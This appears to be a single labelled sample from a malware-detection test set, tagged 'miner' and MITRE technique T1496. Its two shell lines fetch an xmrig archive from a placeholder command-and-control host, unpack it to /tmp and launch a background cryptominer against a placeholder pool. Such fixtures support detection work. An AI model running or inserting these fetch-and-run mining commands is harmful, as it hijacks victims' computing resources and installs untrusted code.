# expect: miner | source: T1496
wget -q https://c2.example.invalid/xmrig.tgz -O - | tar xz -C /tmp
/tmp/xmrig -o stratum+tcp://pool.example.invalid:3333 -B
